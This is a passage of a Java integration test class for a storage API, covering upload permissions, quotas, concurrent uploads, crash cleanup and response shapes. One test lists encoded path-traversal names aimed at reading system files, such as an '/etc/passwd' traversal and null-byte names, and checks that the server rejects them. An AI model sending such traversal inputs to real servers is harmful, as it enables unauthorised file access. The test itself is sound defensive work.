                .header("Content-Type", startsWith("text/html")).header("X-Content-Type-Options", "nosniff")
                .header("Content-Security-Policy", "default-src 'none'; sandbox")
                .header("Content-Disposition", startsWith("attachment; filename=\"legacy.png\""));
    }

    @Test
    void copyAndMoveIntoAnotherBucketFollowItsTypesAndLimit() throws Exception {
        String bucket = "src-" + UUID.randomUUID().toString().substring(0, 8);
        service().contentType("application/json").body(Map.of("id", bucket, "name", bucket, "public", false))
                .post("/storage/v1/bucket").then().statusCode(200);
        User a = newUser();
        service().contentType("text/html").body(HTML.getBytes(StandardCharsets.UTF_8)).post("/storage/v1/object/" + bucket + "/page.html").then().statusCode(200);
        service().contentType("image/png").body(new byte[6 * MIB]).post("/storage/v1/object/" + bucket + "/big.png").then().statusCode(200);
        for (String op : List.of("copy", "move")) {
            service().contentType("application/json").body(Map.of("bucketId", bucket, "sourceKey", "page.html",
                    "destinationBucket", "avatars", "destinationKey", a.id() + "/page.png"))
                    .post("/storage/v1/object/" + op).then().statusCode(400).body("statusCode", equalTo("415"));
            service().contentType("application/json").body(Map.of("bucketId", bucket, "sourceKey", "big.png",
                    "destinationBucket", "avatars", "destinationKey", a.id() + "/big.png"))
                    .post("/storage/v1/object/" + op).then().statusCode(413).body("statusCode", equalTo("413"));
        }
        given().get("/storage/v1/object/public/avatars/" + a.id() + "/page.png").then().statusCode(400);
        service().get("/storage/v1/object/" + bucket + "/page.html").then().statusCode(200);
        assertEquals(0, stagedCount());
        service().post("/storage/v1/bucket/" + bucket + "/empty").then().statusCode(200);
        service().delete("/storage/v1/bucket/" + bucket).then().statusCode(200);
    }

    // ---- the insert permission is checked before the body is stored (SPEC §9) ----

    /** An HTTP/1.1 request written by hand, so a test can stop between parts of its body. */
    static final class SlowRequest implements AutoCloseable {
        private final java.net.Socket socket;
        private final java.io.OutputStream out;

        SlowRequest(String method, String path, String token, String contentType, long length) throws Exception {
            socket = new java.net.Socket("localhost", io.restassured.RestAssured.port);
            socket.setSoTimeout(60_000);
            out = socket.getOutputStream();
            out.write((method + " " + path + " HTTP/1.1\r\nHost: localhost\r\napikey: " + ANON
                    + (token == null ? "" : "\r\nAuthorization: Bearer " + token) + "\r\nContent-Type: " + contentType
                    + "\r\nContent-Length: " + length + "\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
        }

        void send(byte[] bytes) throws Exception {
            out.write(bytes);
            out.flush();
        }

        /** Status and body of the answer. */
        Map.Entry<Integer, String> answer() throws Exception {
            var in = new java.io.DataInputStream(new java.io.BufferedInputStream(socket.getInputStream()));
            StringBuilder head = new StringBuilder();
            while (!head.toString().endsWith("\r\n\r\n")) {
                head.append((char) in.readUnsignedByte());
            }
            int status = Integer.parseInt(head.substring(9, 12));
            var m = java.util.regex.Pattern.compile("(?i)content-length: *(\\d+)").matcher(head);
            byte[] body = new byte[m.find() ? Integer.parseInt(m.group(1)) : 0];
            in.readFully(body);
            return Map.entry(status, new String(body, StandardCharsets.UTF_8));
        }

        @Override
        public void close() throws Exception {
            socket.close();
        }
    }

    /** Sends the first half of a refused upload, checks nothing was staged, sends the rest: the answer. */
    Map.Entry<Integer, String> refusedMidway(String method, String path, String token, String type, byte[] body) throws Exception {
        try (SlowRequest r = new SlowRequest(method, path, token, type, body.length)) {
            int half = body.length / 2;
            r.send(java.util.Arrays.copyOfRange(body, 0, half));
            Thread.sleep(400); // the server has read the headers and half of the body by now
            assertEquals(0, stagedCount(), method + " " + path + ": bytes were staged before the permission check");
            r.send(java.util.Arrays.copyOfRange(body, half, body.length));
            return r.answer();
        }
    }

    @Test
    void refusedUploadsStoreNothingBeforeThePermissionCheck() throws Exception {
        User a = newUser();
        User b = newUser();
        byte[] two = new byte[2 * MIB];
        // B into A's folder: raw body and multipart
        var raw = refusedMidway("POST", "/storage/v1/object/datasets/" + a.id() + "/planted.bin", b.token(),
                "application/octet-stream", two);
        assertEquals(400, raw.getKey());
        assertTrue(raw.getValue().contains("\"statusCode\":\"403\""), raw.getValue());
        byte[] mp = multipart(filePart("application/octet-stream", "x".repeat(2 * MIB))).getBytes(StandardCharsets.UTF_8);
        var multi = refusedMidway("POST", "/storage/v1/object/datasets/" + a.id() + "/planted2.bin", b.token(),
                "multipart/form-data; boundary=" + BOUNDARY, mp);
        assertEquals(400, multi.getKey());
        assertTrue(multi.getValue().contains("\"statusCode\":\"403\""), multi.getValue());
        // a duplicate without upsert, and a second use of a signed upload URL (no upsert in it)
        upload(a, "datasets", a.id() + "/once.bin", "application/octet-stream", new byte[] {1});
        var dup = refusedMidway("POST", "/storage/v1/object/datasets/" + a.id() + "/once.bin", a.token(),
                "application/octet-stream", two);
        assertTrue(dup.getValue().contains("\"statusCode\":\"409\""), dup.getValue());
        String token = as(a).post("/storage/v1/object/upload/sign/datasets/" + a.id() + "/signed.bin").then().statusCode(200)
                .extract().path("token");
        given().contentType("application/octet-stream").body(new byte[] {2})
                .put("/storage/v1/object/upload/sign/datasets/" + a.id() + "/signed.bin?token=" + token).then().statusCode(200);
        var again = refusedMidway("PUT", "/storage/v1/object/upload/sign/datasets/" + a.id() + "/signed.bin?token=" + token,
                null, "application/octet-stream", two);
        assertTrue(again.getValue().contains("\"statusCode\":\"409\""), again.getValue());
        assertEquals(1, Integer.parseInt(dbString("select count(*) from storage.objects where name like '" + a.id() + "/planted%' "
                + "or name = '" + a.id() + "/once.bin'")));
    }

    // ---- per-user quota (STORAGE_USER_QUOTA; QUOTA_MIB here) ----

    static String quotaPath(User u, String name) {
        return "/storage/v1/object/datasets/" + u.id() + "/q/" + name;
    }

    @Test
    void userQuotaIsEnforcedWhileStreamingAndCountsAnUpsertsDelta() throws Exception {
        User a = newUser();
        String octets = "application/octet-stream";
        as(a).contentType(octets).body(new byte[4 * MIB]).post(quotaPath(a, "one.bin")).then().statusCode(200);
        // 4 + 4 > 7: chunked (refused while streaming, body drained) and with Content-Length (refused at once)
        as(a).contentType(octets).body(new ByteArrayInputStream(new byte[4 * MIB])).post(quotaPath(a, "two.bin"))
                .then().statusCode(413).body("statusCode", equalTo("413")).body("code", equalTo("QuotaExceeded"))
                .body("message", equalTo("The object exceeded your storage quota"));
        as(a).contentType(octets).body(new byte[4 * MIB]).post(quotaPath(a, "three.bin"))
                .then().statusCode(413).body("code", equalTo("QuotaExceeded"));
        assertEquals(0, stagedCount());
        // an upsert counts its delta: 4 MiB replaced by 6 MiB
        as(a).contentType(octets).header("x-upsert", "true").body(new ByteArrayInputStream(new byte[6 * MIB]))
                .post(quotaPath(a, "one.bin")).then().statusCode(200);
        as(a).contentType(octets).body(new byte[MIB]).post(quotaPath(a, "four.bin")).then().statusCode(200); // exactly 7 MiB
        as(a).contentType(octets).body(new byte[1]).post(quotaPath(a, "five.bin")).then().statusCode(413)
                .body("code", equalTo("QuotaExceeded"));
        // multipart and copies count too
        as(a).contentType("multipart/form-data; boundary=" + BOUNDARY).body(multipart(filePart(octets, "x")))
                .post(quotaPath(a, "six.bin")).then().statusCode(413).body("code", equalTo("QuotaExceeded"));
        as(a).contentType("application/json").body(Map.of("bucketId", "datasets", "sourceKey", a.id() + "/q/four.bin",
                "destinationKey", a.id() + "/q/copy.bin")).post("/storage/v1/object/copy").then().statusCode(413)
                .body("code", equalTo("QuotaExceeded"));
        // deleting frees space; other users have their own quota
        as(a).delete(quotaPath(a, "one.bin")).then().statusCode(200);
        as(a).contentType(octets).body(new byte[5 * MIB]).post(quotaPath(a, "five.bin")).then().statusCode(200);
        User b = newUser();
        as(b).contentType(octets).body(new byte[6 * MIB]).post(quotaPath(b, "mine.bin")).then().statusCode(200);
        // a signed upload URL uploads for its signer: a's quota
        String token = as(a).post("/storage/v1/object/upload/sign/datasets/" + a.id() + "/q/signed.bin").then().statusCode(200)
                .extract().path("token");
        given().contentType(octets).body(new ByteArrayInputStream(new byte[2 * MIB]))
                .put("/storage/v1/object/upload/sign/datasets/" + a.id() + "/q/signed.bin?token=" + token)
                .then().statusCode(413).body("code", equalTo("QuotaExceeded"));
        assertEquals(String.valueOf(6 * MIB), dbString("select sum((metadata->>'size')::bigint) from storage.objects where owner = '"
                + a.id() + "'"));
        assertEquals(0, stagedCount());
    }

    @Test
    void uploadsRunningSideBySideCannotTogetherExceedTheQuota() throws Exception {
        User a = newUser();
        byte[] four = new byte[4 * MIB];
        try (SlowRequest first = new SlowRequest("POST", quotaPath(a, "first.bin"), a.token(), "application/octet-stream", four.length);
             SlowRequest second = new SlowRequest("POST", quotaPath(a, "second.bin"), a.token(), "application/octet-stream", four.length)) {
            // both are checked against the same usage (nothing yet) and start streaming
            first.send(java.util.Arrays.copyOfRange(four, 0, 3 * MIB));
            second.send(java.util.Arrays.copyOfRange(four, 0, 3 * MIB));
            Thread.sleep(400);
            first.send(java.util.Arrays.copyOfRange(four, 3 * MIB, four.length));
            second.send(java.util.Arrays.copyOfRange(four, 3 * MIB, four.length));
            var one = first.answer();
            var two = second.answer();
            List<Integer> statuses = java.util.stream.Stream.of(one.getKey(), two.getKey()).sorted().toList();
            assertEquals(List.of(200, 413), statuses, one + " / " + two);
            assertTrue((one.getKey() == 413 ? one : two).getValue().contains("QuotaExceeded"));
        }
        assertEquals("1", dbString("select count(*) from storage.objects where owner = '" + a.id() + "'"));
        assertEquals(0, stagedCount());
    }

    // ---- limits, path safety, crash safety ----

    @Test
    void overLimitUploadIs413EvenWhenChunked() throws Exception {
        User a = newUser();
        byte[] big = new byte[6 * 1024 * 1024]; // avatars allow 5 MiB
        // chunked: no Content-Length, so the limit is enforced while streaming
        as(a).contentType("image/png").body(new ByteArrayInputStream(big))
                .post("/storage/v1/object/avatars/" + a.id() + "/big.png").then().statusCode(413)
                .body("statusCode", equalTo("413")).body("error", equalTo("Payload too large"))
                .body("code", equalTo("EntityTooLarge"));
        as(a).contentType("image/png").body(big)
                .post("/storage/v1/object/avatars/" + a.id() + "/big2.png").then().statusCode(413)
                .body("statusCode", equalTo("413"));
        as(a).get("/storage/v1/object/avatars/" + a.id() + "/big.png").then().statusCode(400);
        assertEquals(0, stagedCount());
    }

    @Test
    void unsafeNamesAreRejectedInEveryEncoding() throws Exception {
        User a = newUser();
        String u = a.id().toString();
        List<String> bad = List.of(
                u + "/../x", u + "/%2e%2e/x", u + "/%2E%2E%2Fx", u + "/..%2f..%2f..%2fetc%2fpasswd",
                u + "/./x", u + "/%2e/x", u + "%2F..%2Fx", u + "/a%5Cb", u + "/a%00b", u + "/a%0Ab", u + "/a%7Fb",
                u + "//x", "%2F" + u + "/x", u + "/x/", u + "/%zz", u + "/" + "a".repeat(1030));
        for (String p : bad) {
            raw("POST", "/storage/v1/object/datasets/" + p, a);
            raw("GET", "/storage/v1/object/datasets/" + p, a);
            raw("DELETE", "/storage/v1/object/datasets/" + p, a);
        }
        // decoded once: a literal %2e in a name stays a name, not a traversal
        as(a).urlEncodingEnabled(false).contentType(NDJSON).body("ok").post("/storage/v1/object/datasets/" + u + "/%252e%252e")
                .then().statusCode(200).body("Key", equalTo("datasets/" + u + "/%2e%2e"));
        as(a).urlEncodingEnabled(false).contentType(NDJSON).body("sp").post("/storage/v1/object/datasets/" + u + "/with%20space.jsonl")
                .then().statusCode(200).body("Key", equalTo("datasets/" + u + "/with space.jsonl"));
        // bucket names too
        as(a).urlEncodingEnabled(false).contentType(NDJSON).body("x").post("/storage/v1/object/..%2F/x")
                .then().statusCode(400);
        assertNothingOutsideTheStore();
        assertEquals(0, stagedCount());
    }

    @Test
    void interruptedUploadLeavesNoObjectAndNoTempFile() throws Exception {
        User a = newUser();
        String path = "/storage/v1/object/datasets/" + a.id() + "/cut.jsonl";
        try (java.net.Socket socket = new java.net.Socket("localhost", io.restassured.RestAssured.port)) {
            var out = socket.getOutputStream();
            out.write(("POST " + path + " HTTP/1.1\r\nHost: localhost\r\napikey: " + ANON + "\r\nAuthorization: Bearer "
                    + a.token() + "\r\nContent-Type: " + NDJSON + "\r\nContent-Length: 6000000\r\n\r\n")
                    .getBytes(StandardCharsets.US_ASCII));
            out.write(new byte[3_000_000]);
            out.flush();
            Thread.sleep(300);
        } // connection dropped after 3 of 6 MB
        long deadline = System.currentTimeMillis() + 5000;
        while (stagedCount() > 0 && System.currentTimeMillis() < deadline) {
            Thread.sleep(100);
        }
        assertEquals(0, stagedCount());
        as(a).get(path).then().statusCode(400).body("statusCode", equalTo("404"));
        try (Connection c = TestDatabase.superuser(); Statement s = c.createStatement();
             ResultSet r = s.executeQuery("select count(*) from storage.objects where owner = '" + a.id() + "'")) {
            r.next();
            assertEquals(0, r.getInt(1));
        }
    }

    @Test
    void sweeperRollsForwardCommittedAndDeletesOrphanTempFiles() throws Exception {
        User a = newUser();
        String orphan = UUID.randomUUID().toString();
        stageLeftover("datasets", orphan, "half an upload", true);
        String committed = UUID.randomUUID().toString();
        stageLeftover("datasets", committed, "committed bytes", true);
        ageLeftovers();
        String fresh = UUID.randomUUID().toString();
        stageLeftover("datasets", fresh, "an upload in progress", false);
        String name = a.id() + "/crashed.jsonl";
        try (Connection c = TestDatabase.superuser(); Statement s = c.createStatement()) {
            s.execute("insert into storage.objects (bucket_id, name, owner, version, metadata) values ('datasets', '"
                    + name + "', '" + a.id() + "', '" + committed + "', '{\"size\":15,\"mimetype\":\"text/plain\",\"eTag\":\"\\\"e\\\"\"}')");
        }
        assertEquals(2, bean(TempSweeper.class).sweep());
        assertFalse(leftoverExists("datasets", orphan));
        assertFalse(leftoverExists("datasets", committed));
        assertFalse(blobStored("datasets", orphan), "the uncommitted bytes are gone");
        assertTrue(leftoverExists("datasets", fresh));
        bean(BlobStore.class).discard("datasets", fresh);
        as(a).get("/storage/v1/object/datasets/" + name).then().statusCode(200).body(equalTo("committed bytes"));
        assertEquals(0, stagedCount());
    }

    @Test
    void orphanSweepDoesNothingWithoutAuthUsers() {
        // this database has no auth slice: owners cannot be checked, so nothing is an orphan
        User a = newUser();
        upload(a, "datasets", a.id() + "/keep/me.jsonl", NDJSON, "{}\n".getBytes(StandardCharsets.UTF_8));
        assertEquals(0, bean(OrphanSweeper.class).sweep(10));
        as(a).get("/storage/v1/object/datasets/" + a.id() + "/keep/me.jsonl").then().statusCode(200).body(equalTo("{}\n"));
    }

    // ---- bucket admin ----

    @Test
    void bucketAdminIsForServiceRoleOnly() {
        User a = newUser();
        as(a).get("/storage/v1/bucket").then().statusCode(400).body("statusCode", equalTo("403"));
        anon().contentType("application/json").body(Map.of("name", "x")).post("/storage/v1/bucket").then().statusCode(400);
        service().get("/storage/v1/bucket").then().statusCode(200).body("id", org.hamcrest.Matchers.hasItems("avatars", "datasets", "notebooks"));
        service().get("/storage/v1/bucket/datasets").then().statusCode(200).body("public", equalTo(false))
                .body("file_size_limit", equalTo(1073741824))
                .body("allowed_mime_types", contains("application/x-ndjson", "application/jsonl", "application/json",
                        "text/plain", "application/octet-stream"));
        service().get("/storage/v1/bucket/avatars").then().statusCode(200).body("public", equalTo(true))
                .body("file_size_limit", equalTo(5242880));
        service().get("/storage/v1/bucket/notebooks").then().statusCode(200).body("file_size_limit", equalTo(52428800));
        service().get("/storage/v1/bucket/nope").then().statusCode(400).body("statusCode", equalTo("404"));

        service().contentType("application/json").body(Map.of("id", "scratch", "name", "scratch", "public", true,
                "file_size_limit", "1MB")).post("/storage/v1/bucket").then().statusCode(200).body("name", equalTo("scratch"));
        service().contentType("application/json").body(Map.of("id", "scratch", "name", "scratch"))
                .post("/storage/v1/bucket").then().statusCode(400).body("statusCode", equalTo("409"));
        service().get("/storage/v1/bucket/scratch").then().statusCode(200).body("file_size_limit", equalTo(1048576));
        service().contentType("text/plain").body("hello").post("/storage/v1/object/scratch/f.txt").then().statusCode(200);
        given().get("/storage/v1/object/public/scratch/f.txt").then().statusCode(200).body(equalTo("hello"));
        service().contentType("application/json").body(Map.of("id", "scratch", "public", false))
                .put("/storage/v1/bucket/scratch").then().statusCode(200);
        given().get("/storage/v1/object/public/scratch/f.txt").then().statusCode(400);
        service().delete("/storage/v1/bucket/scratch").then().statusCode(400).body("statusCode", equalTo("409"));
        service().post("/storage/v1/bucket/scratch/empty").then().statusCode(200).body("message", equalTo("Successfully emptied"));
        service().delete("/storage/v1/bucket/scratch").then().statusCode(200);
        service().get("/storage/v1/bucket/scratch").then().statusCode(400);
    }

    // ---- shapes ----

    /**
     * The JSON of every row-carrying answer, byte for byte as storage-api (and this service before its
     * rows became records) renders it: columns in this order, uuids and timestamps as PostgREST writes
     * them, jsonb as stored. The expected text is built from the rows read straight from PostgreSQL.
     */
    @Test
    void rowsRenderByteForByteAsStorageApiDoes() throws Exception {
        User a = newUser();
        String top = a.id() + "/top.jsonl";
        String nested = a.id() + "/shape/one.jsonl";
        upload(a, "datasets", top, NDJSON, "{\"a\":1}".getBytes());
        upload(a, "datasets", nested, NDJSON, "{}".getBytes());

        String bucketSql = "select id, name, owner, owner_id, public, file_size_limit, allowed_mime_types, created_at, "
                + "updated_at from storage.buckets";
        assertEquals(rowsJson(bucketSql + " where id = 'datasets'").get(0),
                service().get("/storage/v1/bucket/datasets").then().statusCode(200).extract().asString());
        assertEquals("[" + String.join(",", rowsJson(bucketSql + " order by name")) + "]",
                service().get("/storage/v1/bucket").then().statusCode(200).extract().asString());

        assertEquals(rowsJson("select id, name, version, bucket_id, metadata->'size' as size, "
                        + "metadata->>'mimetype' as content_type, metadata->>'cacheControl' as cache_control, "
                        + "metadata->>'eTag' as etag, user_metadata as metadata, metadata->>'lastModified' as last_modified, "
                        + "created_at from storage.objects where bucket_id = 'datasets' and name = '" + top + "'").get(0),
                as(a).get("/storage/v1/object/info/datasets/" + top).then().statusCode(200).extract().asString());

        assertEquals("[{\"name\":\"shape\",\"id\":null,\"updated_at\":null,\"created_at\":null,"
                        + "\"last_accessed_at\":null,\"metadata\":null},"
                        + rowsJson("select 'top.jsonl' as name, id, updated_at, created_at, last_accessed_at, metadata "
                        + "from storage.objects where bucket_id = 'datasets' and name = '" + top + "'").get(0) + "]",
                as(a).contentType("application/json").body(Map.of("prefix", a.id() + "/"))
                        .post("/storage/v1/object/list/datasets").then().statusCode(200).extract().asString());

        List<String> deleted = rowsJson("select id, bucket_id, name, owner, owner_id, metadata, user_metadata, created_at, "
                + "updated_at, last_accessed_at, version from storage.objects where bucket_id = 'datasets' and name = '"
                + nested + "'");
        assertEquals("[" + deleted.get(0) + "]", as(a).contentType("application/json")
                .body(Map.of("prefixes", List.of(nested, a.id() + "/absent"))).delete("/storage/v1/object/datasets")
                .then().statusCode(200).extract().asString());

        // the small answers
        String copied = a.id() + "/copied.jsonl";
        String copyAnswer = as(a).contentType("application/json").body(Map.of("bucketId", "datasets", "sourceKey", top,
                "destinationKey", copied)).post("/storage/v1/object/copy").then().statusCode(200).extract().asString();
        assertEquals("{\"Id\":\"" + dbString("select id from storage.objects where bucket_id = 'datasets' and name = '"
                + copied + "'") + "\",\"Key\":\"datasets/" + copied + "\"}", copyAnswer);
        String moved = a.id() + "/moved.jsonl";
        assertEquals("{\"message\":\"Successfully moved\"}", as(a).contentType("application/json").body(Map.of(
                "bucketId", "datasets", "sourceKey", copied, "destinationKey", moved)).post("/storage/v1/object/move")
                .then().statusCode(200).extract().asString());
        String token = "[A-Za-z0-9_-]+\\.[A-Za-z0-9_-]+\\.[A-Za-z0-9_-]+";
        String signed = as(a).contentType("application/json").body(Map.of("expiresIn", 60))
                .post("/storage/v1/object/sign/datasets/" + moved).then().statusCode(200).extract().asString();
        assertTrue(signed.matches("\\{\"signedURL\":\"/object/sign/datasets/" + moved + "\\?token=" + token + "\"}"), signed);
        String many = as(a).contentType("application/json").body(Map.of("expiresIn", 60, "paths", List.of(moved, nested)))
                .post("/storage/v1/object/sign/datasets").then().statusCode(200).extract().asString();
        assertTrue(many.matches("\\[\\{\"error\":null,\"path\":\"" + moved + "\",\"signedURL\":\"/object/sign/datasets/"
                + moved + "\\?token=" + token + "\"},\\{\"error\":\"Either the object does not exist or you do not have "
                + "access to it\",\"path\":\"" + nested + "\",\"signedURL\":null}]"), many);
        String upload = as(a).post("/storage/v1/object/upload/sign/datasets/" + a.id() + "/later.jsonl").then()
                .statusCode(200).extract().asString();
        assertTrue(upload.matches("\\{\"url\":\"/object/upload/sign/datasets/" + a.id() + "/later.jsonl\\?token=(" + token
                + ")\",\"token\":\"\\1\"}"), upload);
        assertEquals("{\"message\":\"Successfully deleted\"}", as(a).delete("/storage/v1/object/datasets/" + moved)
                .then().statusCode(200).extract().asString());

        String bucket = "shapes-" + Long.toHexString(System.nanoTime());
        assertEquals("{\"name\":\"" + bucket + "\"}", service().contentType("application/json")
                .body(Map.of("name", bucket, "allowed_mime_types", List.of("text/plain"))).post("/storage/v1/bucket")
                .then().statusCode(200).extract().asString());
        assertEquals(rowsJson(bucketSql + " where id = '" + bucket + "'").get(0),
                service().get("/storage/v1/bucket/" + bucket).then().statusCode(200).extract().asString());
        assertEquals("{\"message\":\"Successfully updated\"}", service().contentType("application/json")
                .body(Map.of("public", true, "file_size_limit", 10)).put("/storage/v1/bucket/" + bucket)
                .then().statusCode(200).extract().asString());
        assertEquals(rowsJson(bucketSql + " where id = '" + bucket + "'").get(0),
                service().get("/storage/v1/bucket/" + bucket).then().statusCode(200).extract().asString());
        assertEquals("{\"message\":\"Successfully emptied\"}", service().post("/storage/v1/bucket/" + bucket + "/empty")
                .then().statusCode(200).extract().asString());
        assertEquals("{\"message\":\"Successfully deleted\"}", service().delete("/storage/v1/bucket/" + bucket)
                .then().statusCode(200).extract().asString());
    }

    /** Each row of {@code sql} (run as the superuser) as JSON the way PostgREST writes a row. */
    static List<String> rowsJson(String sql) throws Exception {
        var json = new com.fasterxml.jackson.databind.ObjectMapper();
        var timestamptz = java.time.format.DateTimeFormatter.ofPattern("yyyy-MM-dd'T'HH:mm:ss.SSSSSSxxx");
        List<String> out = new java.util.ArrayList<>();
        try (Connection c = TestDatabase.superuser(); Statement s = c.createStatement(); ResultSet r = s.executeQuery(sql)) {
            var meta = r.getMetaData();
            while (r.next()) {
                Map<String, Object> row = new java.util.LinkedHashMap<>();
                for (int i = 1; i <= meta.getColumnCount(); i++) {
                    String type = meta.getColumnTypeName(i);
                    Object v;
                    if (r.getObject(i) == null) {
                        v = null;
                    } else if (type.equals("timestamptz")) {
                        v = r.getObject(i, java.time.OffsetDateTime.class).withOffsetSameInstant(java.time.ZoneOffset.UTC)
                                .format(timestamptz);
                    } else if (type.equals("jsonb") || type.equals("json")) {
                        v = json.readValue(r.getString(i), Object.class);
                    } else if (type.startsWith("_")) {
                        v = List.of((Object[]) r.getArray(i).getArray());
                    } else if (type.equals("uuid")) {
                        v = r.getString(i);
                    } else {
                        v = r.getObject(i);
                    }
                    row.put(meta.getColumnLabel(i), v);
                }
                out.add(json.writeValueAsString(row));
            }
        }
        return out;
    }

    @Test
    void badTokensAndMalformedBodiesAre4xxJson() {
        given().header("Authorization", "Bearer not-a-jwt").get("/storage/v1/object/datasets/x/y").then()
                .statusCode(401).body("statusCode", equalTo("403"));
        User a = newUser();
        as(a).contentType("application/json").body("{bad").post("/storage/v1/object/list/datasets").then()
                .statusCode(400);
        as(a).contentType("application/json").body(Map.of("expiresIn", "soon"))
                .post("/storage/v1/object/sign/datasets/" + a.id() + "/x").then().statusCode(400)
                .body("statusCode", equalTo("400"));
        as(a).contentType(NDJSON).body("x").post("/storage/v1/object/nobucket/" + a.id() + "/x").then().statusCode(400)
                .body("statusCode", equalTo("404")).body("message", equalTo("Bucket not found"));
    }

    /** java.net's client sends the path byte for byte (no dot-segment normalisation). */
    static void raw(String method, String path, User u) throws Exception {
        var url = new java.net.URL("http://localhost:" + io.restassured.RestAssured.port + path);
        var conn = (java.net.HttpURLConnection) url.openConnection();
        conn.setRequestMethod(method);
        conn.setRequestProperty("apikey", ANON);
        conn.setRequestProperty("Authorization", "Bearer " + u.token());
        conn.setRequestProperty("Content-Type", NDJSON);
        if (method.equals("POST")) {
            conn.setDoOutput(true);
            conn.getOutputStream().write("x".getBytes());
        }
        int status = conn.getResponseCode();
        assertEquals(400, status, method + " " + path);
        if (path.contains("%zz")) {
            return; // malformed escapes are refused by the HTTP layer itself, before routing
        }
        String body = new String(conn.getErrorStream().readAllBytes());
        assertTrue(body.contains("\"statusCode\":\"400\""), body);
    }

    static String dbString(String sql) throws Exception {
        try (Connection c = TestDatabase.superuser(); Statement s = c.createStatement(); ResultSet r = s.executeQuery(sql)) {
            assertTrue(r.next(), sql);
            return r.getString(1);
        }
    }

    static String md5(byte[] b) throws Exception {
        return java.util.HexFormat.of().formatHex(java.security.MessageDigest.getInstance("MD5").digest(b));
    }
}
